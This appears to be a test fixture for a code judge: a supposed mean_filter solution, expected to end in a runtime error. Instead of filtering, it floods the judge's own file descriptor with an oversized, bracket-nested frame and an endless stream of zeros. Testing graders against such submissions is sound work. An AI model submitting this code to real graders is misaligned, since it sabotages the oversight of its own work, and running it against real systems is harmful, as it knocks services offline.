# verdict: runtime-error
# message: judge's own channel
# requestMs: 5000
import os
import struct


def mean_filter(image, ksize):
    header = b"[" * (4 << 20) + b"]" * (4 << 20)
    frame = memoryview(struct.pack("<II", len(header), 512 << 20) + header)
    while frame:
        frame = frame[os.write(4, frame) :]
    while True:
        os.write(4, bytes(1 << 20))
